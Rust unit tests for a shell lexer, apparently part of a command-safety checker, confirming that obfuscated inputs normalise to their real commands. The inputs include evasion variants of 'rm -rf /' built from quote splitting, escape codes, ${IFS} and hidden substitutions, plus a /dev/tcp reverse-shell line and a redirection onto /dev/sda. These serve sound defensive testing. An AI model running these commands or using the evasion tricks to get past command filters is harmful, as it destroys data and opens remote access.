//! Unit tests of `lex.rs`.

use super::*;

/// The words of `src` (operators as `<op>`), for one-line cases.
fn check(src: &str, expected: &[&str]) {
    let lexed = lex(src);
    let got: Vec<String> = lexed
        .tokens
        .iter()
        .map(|t| match t {
            Token::Word(w) => w.text.clone(),
            Token::Op(op) => format!("<{op:?}>"),
            Token::Redir(r) => format!("<{:?} {}>", r.kind, r.target.text),
        })
        .collect();
    assert_eq!(got, expected, "{src:?}");
}

#[test]
fn quotes_and_escapes() {
    check("r''m -rf /", &["rm", "-rf", "/"]);
    check("r\"\"m -rf /", &["rm", "-rf", "/"]);
    check("\\rm -rf /", &["rm", "-rf", "/"]);
    check("$'\\x72\\x6d' -rf /", &["rm", "-rf", "/"]);
    check("$'\\162m' x", &["rm", "x"]);
    check("'a b' \"c $'d'\"", &["a b", "c $'d'"]);
    check("echo \"a\\\"b\"", &["echo", "a\"b"]);
    check("a\\\nb", &["ab"]);
}

#[test]
fn ifs_and_parameters() {
    check("rm${IFS}-rf${IFS}/", &["rm", "-rf", "/"]);
    check("rm$IFS-rf$IFS/", &["rm", "-rf", "/"]);
    check("\"a${IFS}b\"", &["a b"]);
    check("rm -rf ${HOME}", &["rm", "-rf", "$HOME"]);
    check("cd ${PATH:0:1}", &["cd", "/"]);
    check("${p}m ${HOME}/x", &["${p}m", "$HOME/x"]);
    check("echo $1 $@", &["echo", "$1", "$@"]);
}

#[test]
fn operators_and_redirections() {
    check(
        "a;b&&c||d|e&f",
        &[
            "a",
            "<Seq>",
            "b",
            "<And>",
            "c",
            "<Or>",
            "d",
            "<Pipe>",
            "e",
            "<Background>",
            "f",
        ],
    );
    check("x > /dev/sda 2>&1", &["x", "<Out /dev/sda>", "<Dup 1>"]);
    check("x &>> log", &["x", "<Append log>"]);
    check(
        "bash -i >& /dev/tcp/h/1 0>&1",
        &["bash", "-i", "<Out /dev/tcp/h/1>", "<Dup 1>"],
    );
    check("(a) # comment", &["<Open>", "a", "<Close>"]);
}

#[test]
fn substitutions_and_heredocs() {
    let lexed = lex("echo $(rm -rf /) `id` <(curl x)");
    let bodies: Vec<&str> = lexed.subs.iter().map(|s| s.body.as_str()).collect();
    assert_eq!(bodies, ["rm -rf /", "id", "curl x"]);
    let lexed = lex("cat <<'EOF' > f\nhello $x\nEOF\necho done");
    let body = lexed.tokens.iter().find_map(|t| match t {
        Token::Redir(r) => r.body.clone(),
        _ => None,
    });
    assert_eq!(body.as_deref(), Some("hello $x\n"));
    assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "done"));
}

#[test]
fn substitution_ends_where_bash_ends_it() {
    // A quote or paren inside a heredoc or a comment does not end (or hide the end of)
    // the substitution.
    let lexed = lex("git commit -m \"$(cat <<'EOF'\nit's (partly) done\nEOF\n)\"; rm -rf /");
    assert_eq!(lexed.subs.len(), 1);
    assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "/"));
    let lexed = lex("echo $(echo a # it's )\n); rm -rf /");
    assert!(matches!(lexed.tokens.last(), Some(Token::Word(w)) if w.text == "/"));
}

#[test]
fn unterminated_input_never_panics() {
    for src in [
        "'", "\"", "$(", "`", "${", "$'\\", "$'\\x", "<<", "a <<E\n", "\\", "$((1",
    ] {
        let _ = lex(src);
    }
}
